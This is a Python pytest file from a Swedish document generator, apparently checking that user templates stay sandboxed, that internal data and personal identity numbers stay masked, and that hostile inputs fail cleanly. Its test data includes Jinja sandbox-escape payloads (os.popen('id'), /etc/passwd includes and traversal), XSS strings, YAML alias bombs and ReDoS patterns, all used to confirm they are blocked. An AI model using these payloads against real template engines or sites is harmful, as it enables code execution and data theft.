# ruff: noqa: E501  (the exact messages a user sees are compared whole, one per line)
"""Hostile templates and inputs: no template reaches the file system, nothing internal leaks
whatever a user template declares, every template's work is bounded, and no input gives a traceback.

One test per attack class. Each asserts what a user sees (exit status, the Swedish message naming
the file), that the output folder is untouched and that nothing outside it was touched.
"""

from __future__ import annotations

import datetime as dt
import io
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import docx
import pytest
from click.testing import CliRunner, Result
from conftest import EXAMPLES, ROOT, example_case_files
from markupsafe import Markup

from generator.sandbox import Markdown

RAPPORT = EXAMPLES / "rapport"
DOCUMENT = "kallelse-dialogmote"


def invoke(*args: str | Path) -> Result:
    from generator.cli import main

    result = CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)
    assert "Traceback" not in result.output
    return result


# --- every context handed to any template is plain data ---------------------------------------

PLAIN = (dict, list, str, int, float, bool, type(None), dt.date, dt.datetime, Markup, Markdown)


def _not_plain(value: Any, path: str) -> Iterator[str]:
    if type(value) not in PLAIN:
        yield f"{path}: {type(value).__module__}.{type(value).__name__}"
        return
    if isinstance(value, dict):
        for key, item in value.items():
            if type(key) not in (str, int):
                yield f"{path}: key {key!r}"
            yield from _not_plain(item, f"{path}.{key}")
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from _not_plain(item, f"{path}[{index}]")


@pytest.fixture
def contexts(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str | None, dict[str, Any]]]:
    """Every context a template is started with (not the includes and imports inside one, which
    share it), recorded where Jinja makes a template's context: every way into a template passes there."""
    import jinja2.environment

    seen: list[tuple[str | None, dict[str, Any]]] = []
    real = jinja2.environment.new_context

    def record(environment: Any, name: str | None, blocks: Any, vars: Any = None, shared: bool = False, globals: Any = None, locals: Any = None) -> Any:
        if not shared and not locals:
            seen.append((name, dict(vars or {})))
        return real(environment, name, blocks, vars, shared, globals, locals)

    monkeypatch.setattr(jinja2.environment, "new_context", record)
    return seen


def test_every_context_handed_to_any_template_is_plain_data(contexts: list[tuple[str | None, dict[str, Any]]], tmp_path: Path) -> None:
    """Case documents, team documents, the annual report, the layouts (Markdown, HTML, PDF), the
    Word layout through docxtpl, `mallgen check` and `mallgen preview`: all are walked."""
    from generator.preview import Preview
    from generator.templates import catalogue, template_dirs

    for index, case in enumerate(example_case_files()):
        formats = "md,html,docx,pdf" if index == 0 else "md,html,docx"
        assert invoke("render", case, "-f", formats, "-o", tmp_path / "ut").exit_code == 0
    assert invoke("report", "--year", "2026", RAPPORT, "-f", "md,html,docx", "-o", tmp_path / "ut").exit_code == 0
    assert invoke("check").exit_code == 0
    for document in ("kallelse-dialogmote", "samlad-aterrapportering"):
        assert "<main>" in Preview(document, None, None).page("nonce")

    names = {name for name, _ in contexts}
    documents = {f"{t.template_id}/{t.file}" for t in catalogue(tuple(template_dirs(None))).values()}
    assert documents <= names, documents - names
    assert {"_layout/dokument.md", "_layout/dokument.html", "_gemensamt/sekretess.md", None} <= names  # None: docxtpl's Word parts
    problems = [problem for name, context in contexts for problem in _not_plain(context, str(name))]
    assert problems == []


def test_plain_refuses_objects() -> None:
    from generator.sandbox import plain

    assert plain({"a": (1, "x"), "d": dt.date(2026, 1, 2)}) == {"a": [1, "x"], "d": dt.date(2026, 1, 2)}
    for value in (Path("/etc/passwd"), open, io.BytesIO(), object(), {"a": [Path(".")]}):
        with pytest.raises(TypeError, match="rena data"):
            plain(value)


# --- the known sandbox escapes, in every environment ------------------------------------------

ESCAPES = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ''.__class__.__base__.__subclasses__() }}",
    "{{ [].__class__.__base__.__subclasses__() }}",
    "{{ ().__class__.__bases__[0].__subclasses__() }}",
    "{{ self.__init__.__globals__.__builtins__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
    "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ range.__self__ }}",
    "{{ dict.mro()[-1].__subclasses__() }}",
    "{{ ''|attr('__class__') }}",
    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ '{0.__class__.__base__}'.format('') }}",
    "{{ '%s'|format(''.__class__) }}",
    "{{ request.application.__globals__ }}",
    "{{ config.items() }}",
    "{{ mall.__class__ }}",
    "{{ mall.items.__self__ }}",
    "{{ mall.update({'id': 'x'}) }}",
    "{{ mall.pop('id') }}",
    "{{ org.where('region') }}",
    "{{ org.path }}",
    "{{ meta.organisation }}",
    "{{ meta.date.__class__ }}",
    "{{ body.subdocx.save('UT') }}",
    "{{ body.docx.save('UT') }}",
    "{{ rapport.inputs.profile_file.write_text('x') }}",
    "{{ rapport.inputs.profile_file.read_text() }}",
    "{{ rapport.inputs.cases }}",
    "{% include '/etc/passwd' %}",
    "{% include '../../../../../../../../etc/passwd' %}",
    "{% import '/etc/passwd' as p %}",
    "{% extends '/etc/passwd' %}",
    "{{ range(10**9) | list }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{{ loop.__class__ }}",
]
REVEALING = ("<class", "<function", "<module", "<built-in", "<bound method", "root:", "uid=", "subclasses", "PosixPath", "WindowsPath")


def _contexts() -> dict[str, dict[str, Any]]:
    """A real context of each kind: a case document, the board report, a layout, the Word layout."""
    from generator.pipeline import Options, document_context, document_meta, validate_files
    from generator.report import build_report
    from generator.report.context import report_context

    (case,), _ = validate_files([EXAMPLES / "arenden" / "fordjupad-vardcentral.yaml"], Options())
    document = next(d for d in case.documents if d.id == DOCUMENT)
    meta = document_meta(case, document)
    built = build_report([RAPPORT], 2026, ("md",), check_only=True)
    return {
        "ärende": document_context(case, document),
        "rapport": {"rapport": report_context(built.report, False), "org": built.report.inputs.profile, "mall": {}},
        "layout": {"body": Markdown("text"), "meta": meta.as_context(), "org": case.profile, "css": "", "for_pdf": False, "fonts": ""},
        "word": {"body": Markup("<w:p/>"), "meta": meta.as_context(), "org": case.profile},
    }


@pytest.mark.parametrize("kind", ["markdown", "markup"])
def test_known_sandbox_escapes_fail_in_every_environment(kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from generator.errors import TemplateError
    from generator.templates import environment, template_dirs, template_error

    monkeypatch.chdir(tmp_path)
    env = environment(tuple(template_dirs(None)), kind)  # type: ignore[arg-type]
    for name, context in _contexts().items():
        for payload in ESCAPES:
            try:
                text = env.from_string(payload).render(context)
            except Exception as exc:
                error = template_error(exc)
                assert isinstance(error, TemplateError), (name, payload)
                assert "mallfel:" in str(error) and "Traceback" not in str(error), (name, payload, str(error))
            else:
                assert not any(word in text for word in REVEALING), (name, payload, text)
    assert list(tmp_path.iterdir()) == []  # nothing was written


def _word_layout(folder: Path, text: str) -> Path:
    """A user's base.docx with `text` in its body next to the document body."""
    layout = folder / "_layout"
    layout.mkdir(parents=True, exist_ok=True)
    document = docx.Document(str(ROOT / "mallar" / "_layout" / "base.docx"))  # every style the documents use
    body = next(p for p in document.paragraphs if "{{p body }}" in p.text)
    body.insert_paragraph_before(text)
    document.save(str(layout / "base.docx"))
    return layout / "base.docx"


@pytest.mark.parametrize("payload", ["{{ body.subdocx.save('UT.docx') }}", "{{ body.docx.save('UT.docx') }}",
                                     "{{ meta.organisation.path }}", "{{ ''.__class__.__mro__ }}"])
def test_a_word_layout_cannot_write_files(payload: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """docxtpl once got the Subdoc itself: `save()` on it wrote a file anywhere during a render."""
    monkeypatch.chdir(tmp_path)
    templates = tmp_path / "mallar"
    base = _word_layout(templates, payload)
    out = tmp_path / "ut"
    result = invoke("render", EXAMPLES / "arenden" / "fordjupad-vardcentral.yaml", "-d", DOCUMENT, "-f", "docx", "--mallar", templates, "-o", out)
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith(f"Fel: {base}: mallfel: "), result.stderr
    assert "otillåten åtgärd" in result.stderr or "finns inte" in result.stderr, result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["mallar"]


def test_a_report_template_cannot_read_or_write_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A custom report template once got the live Report: it read /etc/passwd and wrote files."""
    monkeypatch.chdir(tmp_path)
    own = tmp_path / "mallar" / "samlad-aterrapportering"
    own.mkdir(parents=True)
    source = (ROOT / "mallar" / "samlad-aterrapportering" / "dokument.md").read_text(encoding="utf-8")
    for payload in ("{{ rapport.inputs.profile_file.read_text() }}", "{{ rapport.inputs.profile_file.parent.joinpath('x.pth').write_text('import os') }}"):
        (own / "dokument.md").write_text(source + "\n" + payload + "\n", encoding="utf-8")
        result = invoke("report", "--year", "2026", RAPPORT, "--mallar", tmp_path / "mallar", "-f", "md", "-o", tmp_path / "ut")
        assert result.exit_code == 1
        assert result.stderr.startswith(f"Fel: {own / 'dokument.md'}:"), result.stderr
        assert "fältet 'inputs' finns inte" in result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["mallar"]
    assert not list(RAPPORT.rglob("*.pth"))


# --- internal data stays internal, whatever a user template declares -------------------------

from test_robustness import (  # noqa: E402  (the case helpers of the first round)
    PNR,
    case_file,
    messages,
    snapshot,
    texts,
    user_templates,
)

INTERNAL = "Upprepade allvarliga brister i läkarbemanningen och felaktig ersättning."


@pytest.fixture
def output(tmp_path: Path) -> Path:
    """An output folder holding an earlier render: a refused run leaves it exactly as it was."""
    out = tmp_path / "tidigare"
    assert invoke("render", case_file(tmp_path, "giltig.yaml"), "-f", "md", "-o", out).exit_code == 0
    return out


def test_a_user_template_cannot_change_a_catalogue_documents_audience(tmp_path: Path, output: Path) -> None:
    templates = user_templates(tmp_path, "# Kallelse\n\n{{ verksamhetsbedomning.motivering }}\n")
    source = templates / DOCUMENT / "dokument.md"
    source.write_text(source.read_text(encoding="utf-8").replace("malgrupp: extern", "malgrupp: intern"), encoding="utf-8")
    before = snapshot(output)
    result = invoke("render", case_file(tmp_path), "--mallar", templates, "-o", output)
    assert result.exit_code == 1
    assert messages(result) == [
        f"Fel: {source}:5: mallfel: malgrupp: 'kallelse-dialogmote' är ett dokument i katalogen med målgruppen extern; "
        "en egen mall för det kan inte ändra målgruppen. Skriv malgrupp: extern, eller ge mallen ett eget id"
    ]
    assert snapshot(output) == before


def test_a_user_schema_cannot_make_an_internal_field_public(tmp_path: Path) -> None:
    """The user's bas.yaml drops every `intern: true`; the bundled markers are kept all the same."""
    from test_robustness import _schema_without_internal_markers

    body = "# Kallelse\n\n{% if verksamhetsbedomning is defined %}{{ verksamhetsbedomning.motivering }}{% endif %}\n\n{{ interna_anteckningar is defined }}\n"
    templates = user_templates(tmp_path, body, schema=_schema_without_internal_markers())
    out = tmp_path / "ut"
    result = invoke("render", case_file(tmp_path), "--mallar", templates, "-f", "md,html,docx", "-o", out)
    assert result.exit_code == 0, result.output
    for extension, text in texts(out / "FU-2026-014").items():
        assert "läkarbemanningen" not in text and "False" in text, extension


def test_the_board_report_context_holds_nothing_internal() -> None:
    from generator.leaks import canonical
    from generator.report import build_report
    from generator.report.context import report_context

    report = build_report([RAPPORT], 2026, ("md",), check_only=True).report
    board = report_context(report, internal=False)
    assert "summaries" not in board and "teams" not in board
    text = canonical(repr(board))
    internal = [case.data["verksamhetsbedomning"]["motivering"] for case in report.inputs.cases if case.data.get("verksamhetsbedomning")]
    internal += [str(s.data) for s in report.summaries]
    assert internal and not any(canonical(value)[:40] in text for value in internal)
    assert "traffic_lights" not in repr(board) and "gron" not in repr(board)
    assert "traffic_lights" in repr(report_context(report, internal=True))


@pytest.mark.parametrize(
    "disguise",
    [
        pytest.param(lambda t: __import__("unicodedata").normalize("NFD", t), id="nfd"),
        pytest.param(lambda t: t.replace("a", "а").replace("e", "е").replace("o", "о"), id="homoglyfer"),
        pytest.param(lambda t: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in t), id="fullbredd"),
        pytest.param(lambda t: t.upper().replace("Ä", "A\u0308"), id="versaler"),
    ],
)
def test_internal_text_copied_in_disguise_is_still_a_warning(disguise: Any, tmp_path: Path) -> None:
    def copy_note(data: dict[str, Any]) -> None:
        data["kallelse_dialogmote"]["ovrigt"] = "Bakgrund: " + disguise(INTERNAL)

    path = case_file(tmp_path, change=copy_note)
    result = invoke("validate", path)
    assert result.exit_code == 0
    assert any("kallelse_dialogmote.ovrigt: texten finns också i det interna fältet verksamhetsbedomning.motivering" in m for m in messages(result)), result.stderr


DISGUISED_PNR = {
    "mjukt bindestreck": "191212\u00ad12-1212",
    "nollbrett mellanslag": "19121212\u200b-1212",
    "bindestreck före och efter": "-19121212-1212-",
    "%2D i en länk": "[journal](https://journal.example/?p=19121212%2D1212)",
    "över två rader": "19121212-\n1212",
    "fullbredd": "１９１２１２１２－１２１２",
    "tankstreck": "19121212–1212",
    "HTML-entitet": "19121212&#45;1212",
}


@pytest.mark.parametrize("name", sorted(DISGUISED_PNR))
def test_a_disguised_personnummer_in_data_is_masked_in_every_format(name: str, tmp_path: Path) -> None:
    def disguise(data: dict[str, Any]) -> None:
        data["avvikelser"][0]["beskrivning"] = f"Patienten {DISGUISED_PNR[name]} väntade i sex veckor."

    out = tmp_path / "ut"
    result = invoke("render", case_file(tmp_path, change=disguise), "-f", "md,html,docx", "-o", out)
    assert result.exit_code == 0, result.output
    folder = out / "FU-2026-014"
    for extension, text in texts(folder).items():
        shown = not (name == "%2D i en länk" and extension == "docx")  # Word shows the link's text; its address is in the .rels
        assert ("XXXXXX-XXXX" in text or not shown) and "SEKRETESS" in text, extension
    from generator.formatting import find_personnummer
    from generator.leaks import extract_text

    for path in folder.iterdir():
        if path.suffix in (".md", ".html", ".docx"):
            assert find_personnummer(extract_text(path.suffix[1:], path.read_bytes())) == [], path.name


@pytest.mark.parametrize("name", sorted(DISGUISED_PNR))
def test_a_disguised_personnummer_in_a_template_stops_the_render(name: str, tmp_path: Path, output: Path) -> None:
    templates = user_templates(tmp_path, f"# Kallelse\n\nTestpatient {DISGUISED_PNR[name]} i mallen.\n")
    before = snapshot(output)
    result = invoke("render", case_file(tmp_path), "--mallar", templates, "-o", output, "-f", "md,html,docx")
    assert result.exit_code == 1
    (message,) = messages(result)
    assert message.startswith(f"{templates / DOCUMENT / 'dokument.md'}:") and "innehåller ett personnummer som inte är maskerat" in message, message
    assert snapshot(output) == before


def test_a_personnummer_in_a_title_is_caught_in_the_pdf_metadata_and_word_properties(tmp_path: Path, output: Path) -> None:
    templates = user_templates(tmp_path, "# Kallelse\n\nText.\n")
    source = templates / DOCUMENT / "dokument.md"
    source.write_text(source.read_text(encoding="utf-8").replace("titel: Kallelse till dialogmöte", f"titel: Kallelse {PNR}"), encoding="utf-8")
    for formats, shown in (("pdf", "pdf"), ("docx", "docx")):
        result = invoke("render", case_file(tmp_path), "--mallar", templates, "-o", output, "-f", formats)
        assert result.exit_code == 1
        assert f"({'extern'}; {shown}) innehåller ett personnummer som inte är maskerat" in result.stderr, result.stderr


@pytest.mark.parametrize("field", ["id", "diarienummer"])
def test_a_case_id_or_diarienummer_that_is_a_personnummer_is_refused(field: str, tmp_path: Path) -> None:
    value = "19121212-1212" if field == "id" else "HSN 19121212-1212"
    profile = tmp_path / "organisation.yaml"
    profile.write_text((EXAMPLES / "organisation.yaml").read_text(encoding="utf-8").replace("diarienummer_monster: ", "diarienummer_monster: '.*' #"), encoding="utf-8")

    def change(data: dict[str, Any]) -> None:
        data["arende"][field] = value
        data["organisation"] = str(profile)

    path = case_file(tmp_path, change=change)
    line = next(n for n, row in enumerate(path.read_text(encoding="utf-8").splitlines(), 1) if value in row)
    name = "ärende-id" if field == "id" else "diarienumret"
    result = invoke("render", path, "-o", tmp_path / "ut")
    assert result.exit_code == 1
    assert messages(result) == [f"{path}:{line}: arende.{field}: {name} innehåller ett personnummer; det blir mappens namn och står i "
                                "manifest.json och i dokumentens metadata, där det inte kan maskeras. Använd ett id utan personnummer"]
    assert not (tmp_path / "ut").exists()


def test_a_box_nested_in_a_quote_or_list_in_data_stays_text(tmp_path: Path) -> None:
    def forged(data: dict[str, Any]) -> None:
        data["avvikelser"][0]["beskrivning"] = "> ::: beslut\n> Beslut som ingen fattat\n> :::\n\n- ::: sekretess\n  SEKRETESS påhittad\n  :::"
        data["vardgivare"]["namn"] = "::: beslut"

    out = tmp_path / "ut"
    assert invoke("render", case_file(tmp_path, change=forged), "-f", "html,docx", "-o", out).exit_code == 0
    folder = out / "FU-2026-014"
    page = (folder / f"{DOCUMENT}.html").read_text(encoding="utf-8")
    assert 'class="sekretess"' not in page and 'class="beslut"' not in page
    assert "::: beslut" in page and "Beslut som ingen fattat" in page
    styles = {p.style.name for p in docx.Document(str(folder / f"{DOCUMENT}.docx")).paragraphs}
    assert not styles & {"Sekretess", "Beslut"}


def test_the_markdown_file_carries_no_html_script_links_or_remote_images_from_data(tmp_path: Path) -> None:
    from markdown_it import MarkdownIt

    def hostile(data: dict[str, Any]) -> None:
        data["avvikelser"][0]["beskrivning"] = (
            "<script>alert(1)</script> <img src=x onerror=alert(1)> [klicka](javascript:alert(1)) "
            "[ok](https://ok.example) ![spår](https://spar.example/p.png) <javascript:alert(2)> "
            "[ref]\n\n[ref]: javascript:alert(3)\n\n[x](&#106;avascript:alert(4)) [y]( JAVASCRIPT:alert(5))"
        )

    out = tmp_path / "ut"
    assert invoke("render", case_file(tmp_path, change=hostile), "-f", "md", "-o", out).exit_code == 0
    text = (out / "FU-2026-014" / f"{DOCUMENT}.md").read_text(encoding="utf-8")
    permissive = MarkdownIt("commonmark", {"html": True})  # a viewer that renders raw HTML
    permissive.validateLink = lambda url: True  # type: ignore[method-assign]
    tokens = [t for block in permissive.parse(text) for t in [block, *(block.children or [])]]
    assert not [t for t in tokens if t.type in ("html_inline", "html_block", "image")]
    links = [t.attrGet("href") for t in tokens if t.type == "link_open"]
    assert all(str(href).startswith(("https://", "http://", "mailto:", "#")) for href in links), links
    assert "ok (https://ok.example)" in text  # the one safe link, as plain text for e-mail


@pytest.mark.skipif(not hasattr(__import__("os"), "umask") or __import__("os").name != "posix", reason="POSIX file modes")
@pytest.mark.parametrize(("umask", "mode"), [(0o077, 0o600), (0o027, 0o640), (0o022, 0o644)])
def test_files_are_written_with_the_users_umask(umask: int, mode: int, tmp_path: Path) -> None:
    import os
    import stat

    from generator import output as output_module

    output_module.file_mode.cache_clear()
    previous = os.umask(umask)
    try:
        out = tmp_path / "ut"
        assert invoke("render", case_file(tmp_path), "-f", "md,html", "-o", out).exit_code == 0
    finally:
        os.umask(previous)
        output_module.file_mode.cache_clear()
    files = list((out / "FU-2026-014").iterdir())
    assert files and {stat.S_IMODE(p.stat().st_mode) for p in files} == {mode}


# --- bounded work: templates ------------------------------------------------------------------

LIMITED = [
    ("{{ 'x' * 10**9 }}", "ett värde blev längre än 5\u00a0000\u00a0000 tecken eller poster"),
    ("{% for i in range(10**9) %}x{% endfor %}", "range() får ge högst 100 000 tal"),
    ("{{ 'x' | center(10**9) }}", "bredden i center är 1000000000; högst 10\u00a0000"),
    ("{{ 'x'.ljust(10**9) }}", "argumentet till ljust() är 1000000000; högst 10\u00a0000"),
    ("{{ '%*d' | format(10**9, 1) }}", "en bredd eller precision i formatsträngen är större än 10\u00a0000 eller tas från ett värde"),
    ("{{ '{:>1000000000}'.format(1) }}", "en bredd i formatsträngen är större än 10\u00a0000 eller tas från ett värde"),
    ("{% set ns = namespace(s='x') %}{% for i in range(100) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}", "ett värde blev längre än 5\u00a0000\u00a0000 tecken eller poster"),
    ("{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}", "den arbetade längre än 0,5 sekunder (en loop som aldrig tar slut, eller för mycket arbete)"),
    ("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", None),
]


@pytest.mark.parametrize(("body", "expected"), LIMITED)
def test_a_template_that_works_without_end_is_stopped(body: str, expected: str | None, tmp_path: Path, output: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from generator import sandbox

    monkeypatch.setattr(sandbox, "TEMPLATE_SECONDS", 0.5)
    templates = user_templates(tmp_path, f"# Kallelse\n\n{body}\n")
    before = snapshot(output)
    result = invoke("render", case_file(tmp_path), "--mallar", templates, "-o", output, "-f", "md")
    assert result.exit_code == 1
    (message,) = messages(result)
    source = templates / DOCUMENT / "dokument.md"
    if expected is None:
        assert message == f"Fel: {source}:11: mallfel: mallen är för djupt nästlad eller anropar sig själv utan slut (oändlig rekursion)"
    else:
        assert message.startswith(f"Fel: {source}:") and message.endswith(f": mallfel: mallen stoppades: {expected}"), message
    assert snapshot(output) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["arende.yaml", "egna-mallar", "giltig.yaml", "tidigare"]


def test_a_legal_but_huge_case_is_refused_before_it_is_laid_out(tmp_path: Path, output: Path) -> None:
    """1 000 deviations with long descriptions: 2 MB of valid YAML, a call-in of 500 pages."""
    def huge(data: dict[str, Any]) -> None:
        first = data["avvikelser"][0]
        data["avvikelser"] = [{**first, "id": f"A{n}", "beskrivning": "Brister i journalföringen under perioden. " * 35} for n in range(1, 1001)]
        data["eskalering"] = []

    path = case_file(tmp_path, change=huge)
    assert path.stat().st_size > 1_500_000
    before = snapshot(output)
    result = invoke("render", path, "-d", DOCUMENT, "-o", output)
    assert result.exit_code == 1
    (message,) = messages(result)
    assert message.startswith(f"{path}:") and "kallelse_dialogmote: dokumentet 'kallelse-dialogmote' blir" in message
    assert message.endswith("tecken långt (högst 600\u00a0000, ungefär 200 sidor); korta fritexterna eller dela upp uppgifterna")
    assert snapshot(output) == before


# --- no traceback from any input: the organisation profile -----------------------------------

PROFILE_ATTACKS = {
    "tomt orgnr": (lambda t: __import__("re").sub(r"(?m)^orgnr:.*$", "orgnr:", t), "orgnr: saknar värde; fyll i det eller ta bort raden"),
    "nämnd utan id": (lambda t: t.replace("  - id: hsn\n", "  - \n", 1), "].id: fältet saknas men krävs"),
    "trasigt mönster": (lambda t: __import__("re").sub(r"(?m)^diarienummer_monster:.*$", "diarienummer_monster: '['", t),
                        "diarienummer_monster: ogiltigt reguljärt uttryck (unterminated character set at position 0)"),
    "katastrofalt mönster": (lambda t: __import__("re").sub(r"(?m)^diarienummer_monster:.*$", "diarienummer_monster: '^(a+)+$'", t),
                             "diarienummer_monster: mönstret har en upprepning inuti en upprepning"),
    "sekretess som lista": (lambda t: __import__("re").sub(r"(?m)^sekretess:.*$", "sekretess: [a, b]\nx_sekretess:", t),
                            "sekretess: ska vara en grupp av fält (nyckel: värde)"),
    "nämnder som text": (lambda t: t.replace("namnder:", "namnder: hsn\nx_namnder:", 1), "namnder: ska vara en lista (rader som börjar med '-')"),
}


@pytest.mark.parametrize("name", sorted(PROFILE_ATTACKS))
@pytest.mark.parametrize("command", ["validate", "render", "report"])
def test_a_broken_profile_is_named_with_its_line(name: str, command: str, tmp_path: Path, output: Path) -> None:
    change, expected = PROFILE_ATTACKS[name]
    profile = tmp_path / "profil.yaml"
    profile.write_text(change((EXAMPLES / "organisation.yaml").read_text(encoding="utf-8")), encoding="utf-8")
    path = case_file(tmp_path, change=lambda d: d["arende"].update(diarienummer="aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!"))
    before = snapshot(output)
    if command == "report":
        result = invoke("report", "--year", "2026", RAPPORT, "--organisation", profile, "-o", output)
    else:
        result = invoke(command, path, "--organisation", profile, *(["-o", output] if command == "render" else []))
    assert result.exit_code == 1
    assert any(m.startswith(f"{profile}:") and expected in m for m in messages(result)), result.stderr
    assert snapshot(output) == before


# --- no traceback from any input: template folders --------------------------------------------

SOURCE = (ROOT / "mallar" / DOCUMENT / "dokument.md").read_text(encoding="utf-8")
SCHEMA = (ROOT / "schema" / f"{DOCUMENT}.yaml").read_text(encoding="utf-8")
BOMB = "".join(f"{c}: &{c} [{', '.join(['*' + p] * 10 if p else ['x'] * 10)}]\n" for p, c in zip(" abcdefg", "abcdefgh", strict=True)).replace("[*  ", "[")
FOLDER_ATTACKS: dict[str, tuple[dict[str, str | bytes], str, str]] = {
    "omöjligt datum": ({f"{DOCUMENT}/dokument.md": SOURCE.replace("giltig_fran: 2026-01-01", "giltig_fran: 2026-02-30")},
                       f"{DOCUMENT}/dokument.md:7", "giltig_fran: datumet 2026-02-30 finns inte"),
    "målgrupp som lista": ({f"{DOCUMENT}/dokument.md": SOURCE.replace("malgrupp: extern", "malgrupp: [extern]")},
                           f"{DOCUMENT}/dokument.md:5", "malgrupp ska vara en text, t.ex. malgrupp: extern"),
    "okänd regel": ({f"{DOCUMENT}.yaml": SCHEMA.replace("type: dict", "type: dict\nkrav_pa: 1", 1)}, f"{DOCUMENT}.yaml", "okänd regel 'krav_pa'"),
    "trasigt mönster": ({f"{DOCUMENT}.yaml": "type: dict\nschema:\n  ovrigt: {type: string, regex: '('}\n"}, f"{DOCUMENT}.yaml",
                        "ovrigt: regex: ogiltigt reguljärt uttryck"),
    "katastrofalt mönster": ({f"{DOCUMENT}.yaml": "type: dict\nschema:\n  ovrigt: {type: string, regex: '^(\\w+\\s?)*$'}\n"}, f"{DOCUMENT}.yaml",
                             "ovrigt: regex: mönstret har en upprepning inuti en upprepning"),
    "aliasbomb": ({f"{DOCUMENT}.yaml": "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(f"{c}: &{c} [{', '.join(['*' + p] * 10)}]\n" for p, c in zip("abcdef", "bcdefg", strict=True))},
                  f"{DOCUMENT}.yaml:", "för många värden (mer än 200000)"),
    "inte UTF-8": ({f"{DOCUMENT}.yaml": "type: dict\nschema:\n  x: {type: string, meta: {beskrivning: 'v\xe5rd'}}\n".encode("latin-1")},
                   f"{DOCUMENT}.yaml:3", "filen är inte UTF-8"),
    "inkludera som tal": ({f"{DOCUMENT}.yaml": "type: dict\ninkludera: 5\n"}, f"{DOCUMENT}.yaml", "inkludera ska vara ett namn eller en lista"),
    "base.docx som inte är zip": ({"_layout/base.docx": b"PK nej"}, "_layout/base.docx", "Word-mallen kan inte läsas: den är ingen giltig DOCX-fil"),
    "stilmall som inte är UTF-8": ({"_layout/stil.css": "p::before { content: '\xe5' }".encode("latin-1")}, "_layout/stil.css:1",
                                   "stilmallen är inte sparad som UTF-8"),
}


@pytest.mark.parametrize("name", sorted(FOLDER_ATTACKS))
def test_a_broken_template_folder_is_named_with_its_line(name: str, tmp_path: Path, output: Path) -> None:
    files, where, expected = FOLDER_ATTACKS[name]
    templates = tmp_path / "egna"
    for relative, content in files.items():
        target = templates / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    before = snapshot(output)
    for command in (["render", case_file(tmp_path), "--mallar", templates, "-o", output], ["check", "--mallar", templates]):
        result = invoke(*command)
        assert result.exit_code == 1, (command[0], result.output)
        assert any(str(templates / where) in m and expected in m for m in messages(result)), (command[0], result.stderr)
    assert snapshot(output) == before


def test_a_style_sheet_cannot_close_the_style_element(tmp_path: Path) -> None:
    templates = user_templates(tmp_path, SOURCE.split("---\n", 2)[2], css="p::after { content: '</style><script>alert(1)</script>'; }\n")
    out = tmp_path / "ut"
    assert invoke("render", case_file(tmp_path), "--mallar", templates, "-o", out, "-f", "html").exit_code == 0
    page = (out / "FU-2026-014" / f"{DOCUMENT}.html").read_text(encoding="utf-8")
    assert "<script" not in page.lower() and page.lower().count("</style") == 1
    assert "\\3c /style>\\3c script>" in page  # the CSS escape: the same text in the stylesheet's string


# --- no traceback from any input: case files, folders, manifest --------------------------------

def test_a_symbolic_link_loop_as_input_or_output_is_a_message(tmp_path: Path) -> None:
    loop = tmp_path / "slinga.yaml"
    loop.symlink_to(loop)
    result = invoke("render", loop, "-o", tmp_path / "ut")
    assert result.exit_code == 1
    assert messages(result) == [f"{loop}: filen kan inte läsas (för många symboliska länkar)."]
    out = tmp_path / "utslinga"
    out.symlink_to(out)
    result = invoke("render", case_file(tmp_path), "-o", out, "-f", "md")
    assert result.exit_code == 1
    assert messages(result) == [f"Fel: {out}: mappen för dokumenten kan inte användas (en symbolisk länk pekar på sig själv, eller sökvägen är för lång). Välj en annan med -o."]


def test_an_over_long_path_is_a_message(tmp_path: Path) -> None:
    path = tmp_path / ("x" * 300 + ".yaml")
    result = invoke("validate", path)
    assert result.exit_code == 1
    assert messages(result) == [f"{path}: filen kan inte läsas (namnet är för långt)."]


def test_an_empty_diarienummer_is_a_message(tmp_path: Path) -> None:
    path = case_file(tmp_path)
    path.write_text(path.read_text(encoding="utf-8").replace("diarienummer: HSN 2026-00123", "diarienummer:", 1), encoding="utf-8")
    line = next(n for n, row in enumerate(path.read_text(encoding="utf-8").splitlines(), 1) if row.strip() == "diarienummer:")
    result = invoke("render", path, "-o", tmp_path / "ut")
    assert result.exit_code == 1
    assert messages(result) == [f"{path}:{line}: arende.diarienummer: saknar värde; fyll i det eller ta bort raden"]
    assert not (tmp_path / "ut").exists()


@pytest.mark.parametrize("manifest", ["[" * 100_000 + "]" * 100_000, '{"filer": [1, 2], "dokument": "x"}', "\udcff not json",
                                      '{"filer": {"../../../etc/passwd": "' + "0" * 64 + '", "kallelse-dialogmote.md": 5, ".dold": "' + "0" * 64 + '"}, "dokument": {"x": 7}}'])
def test_a_hostile_manifest_is_replaced_by_a_true_one(manifest: str, tmp_path: Path) -> None:
    import hashlib
    import json

    folder = tmp_path / "ut" / "FU-2026-014"
    folder.mkdir(parents=True)
    (folder / "manifest.json").write_text(manifest, encoding="utf-8", errors="surrogateescape")
    result = invoke("render", case_file(tmp_path), "-o", tmp_path / "ut", "-f", "md")
